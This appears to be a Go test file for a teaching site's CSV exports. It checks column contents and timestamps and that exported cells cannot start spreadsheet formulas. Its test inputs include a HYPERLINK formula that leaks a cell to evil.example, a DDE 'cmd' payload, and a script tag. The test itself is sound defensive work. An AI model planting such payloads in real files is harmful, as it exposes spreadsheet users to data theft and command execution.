package site

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"io"
	"net/http/httptest"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"fencepost/store"
)

// taken is a file as somebody gets it, read back.
func (c *class) taken(who, file string) [][]string {
	c.t.Helper()
	server := httptest.NewServer(c.site)
	defer server.Close()
	c.kept["server"] = server.URL
	resp, err := c.browser(who).Get(server.URL + "/teach/cohorts/first/exports/" + file)
	c.must(err)
	defer resp.Body.Close()
	body, err := io.ReadAll(resp.Body)
	c.must(err)
	if resp.StatusCode != 200 {
		c.t.Fatalf("%s: status %d", file, resp.StatusCode)
	}
	if n := bytes.Count(body, []byte("\r\n")); n == 0 || !bytes.HasSuffix(body, []byte("\r\n")) {
		c.t.Errorf("%s: %d lines end as RFC 4180 wants", file, n)
	}
	rows, err := csv.NewReader(bytes.NewReader(body)).ReadAll()
	if err != nil {
		c.t.Fatalf("%s: %v\n%s", file, err, body)
	}
	return rows
}

// column is what stands under a head.
func column(t *testing.T, rows [][]string, head string) []string {
	t.Helper()
	for i, h := range rows[0] {
		if h == head {
			var out []string
			for _, r := range rows[1:] {
				out = append(out, r[i])
			}
			return out
		}
	}
	t.Fatalf("no column %s in %q", head, rows[0])
	return nil
}

// hostileText would become formulas, cells and lines of its own in a
// spreadsheet that reads it carelessly.
const hostileText = "=HYPERLINK(\"http://evil.example?\"&A1,\"x\"),\"quoted\";=1+1\tcell\n@SUM(A1)\n\"\n<script>alert(1)</script> \u202egnp \U0001f9ea and more words to make it long enough."

func TestExportOfHostileTexts(t *testing.T) {
	c := newClass(t, map[string]string{"sam": `=cmd|' /C calc'!A0`, "sue": "\"+1+1\", ;-2+3", "ida": "@Ida, =Rhodes"})
	c.hands("sam", "x1", "slow_or_dead:covered", hostileText)
	c.hands("sue", "x2", "slow_or_dead:covered", "+1 first, -2 second; and @third are what this text begins its parts with.")
	c.reviewed("ida", "x1", "-1+1", map[string]string{"slow_or_dead": "missing"})
	rows := c.taken("ida", "explanations.csv")
	want := []string{`'=cmd|' /C calc'!A0`, `'"+1+1", ;'-2+3`}
	if diff := cmp.Diff(want, column(t, rows, "student")); diff != "" {
		t.Error(diff)
	}
	text := column(t, rows, "text")
	if got := strings.ReplaceAll(text[0], "'", ""); got != hostileText {
		t.Errorf("the text came back as %q", got)
	}
	if want := "'+1 first,' -2 second; and @third"; !strings.HasPrefix(text[1], want) {
		t.Errorf("%q, want %q at its beginning", text[1], want)
	}
	for _, file := range []string{"explanations.csv", "reviews.csv", "checks.csv", "canvas.csv", "moodle.csv", "explanations.csv?names=hidden"} {
		for _, row := range c.taken("ida", file) {
			for _, cell := range row {
				harmless(t, file, cell)
			}
		}
	}
}

// harmless fails where a cell, or what a program that separates otherwise makes
// of it, begins a formula.
func harmless(t *testing.T, file, cell string) {
	t.Helper()
	for _, part := range strings.FieldsFunc(cell, func(r rune) bool { return strings.ContainsRune(",;\t\r\n|", r) }) {
		if bare := strings.TrimLeft(part, ` "`); bare != "" && strings.ContainsAny(bare[:1], "=+-@") {
			t.Errorf("%s: %q begins a formula in %q", file, part, cell)
		}
	}
}

// reviewed has somebody judge an answer.
func (c *class) reviewed(who, id, comment string, verdicts map[string]string) {
	c.t.Helper()
	by, at := store.ScopeOf(store.Person{ID: who}), c.clock.Add(1000)
	l, err := c.db.Acquire(c.t.Context(), by, id, at, 60_000)
	c.must(err)
	_, _, err = c.db.SaveReview(c.t.Context(), by, store.Review{
		ID: "r" + id, Key: "r" + id, ExplanationID: id, Verdicts: verdicts, Comment: comment, Shown: []byte("{}"), Token: l.Token, AtMS: at,
	})
	c.must(err)
}

// TestExportedVerdicts has the verdicts in force, and who decided.
func TestExportedVerdicts(t *testing.T) {
	c := newClass(t, nil)
	c.hands("sam", "x1", "slow_or_dead:covered stale_owner:unsure longer_lease_fixes:present", "A text of some words.")
	c.hands("sue", "x2", "slow_or_dead:contradicted", "Another text of some words.")
	c.reviewed("ida", "x1", "Nearly.", map[string]string{"stale_owner": "covered", "longer_lease_fixes": "missing"})
	rows := c.taken("ida", "explanations.csv")
	for head, want := range map[string][]string{
		"explanation_id":      {"x1", "x2"},
		"decided_by":          {"Ida Lovelace", "scorer"},
		"covered":             {"2", "0"},
		"points":              {"7", "7"},
		"words":               {"5", "5"},
		"covered_points":      {"slow_or_dead stale_owner", ""},
		"unsure_points":       {"", ""},
		"contradicted_points": {"", "slow_or_dead"},
		"misconceptions":      {"", ""},
		"comment":             {"Nearly.", ""},
	} {
		if diff := cmp.Diff(want, column(t, rows, head)); diff != "" {
			t.Errorf("%s: %s", head, diff)
		}
	}
	reviews := c.taken("ida", "reviews.csv")
	if got := column(t, reviews, "covered_points"); !cmp.Equal(got, []string{"stale_owner"}) {
		t.Errorf("reviews: %q", got)
	}
	// Times are those of the cohort, with the offset: Oslo in winter.
	if got := column(t, reviews, "at")[0]; !strings.HasPrefix(got, "2026-11-30T10:00:") || !strings.HasSuffix(got, "+01:00") {
		t.Errorf("time %q", got)
	}
	list, err := c.db.Entries(t.Context(), store.ScopeOf(store.Person{ID: "ada"}), "cohort.export", store.Page{})
	c.must(err)
	if len(list.Rows) != 2 || list.Rows[0].Object != "first" || list.Rows[0].ActorID != "ida" {
		t.Errorf("the log has %v", list.Rows)
	}
}

// answers of the class at a check, by option.
func (c *class) chose(who, item, option string, right bool) {
	c.t.Helper()
	id := who + item + option
	_, err := c.db.AddAttempt(c.t.Context(), store.Attempt{
		ID: id, LearnerID: "l-" + who, Key: id, Lesson: deskLesson, Item: item,
		Answer: json.RawMessage(`{"options":["` + option + `"]}`), Right: right, AtMS: c.clock.Add(1000),
	})
	c.must(err)
}
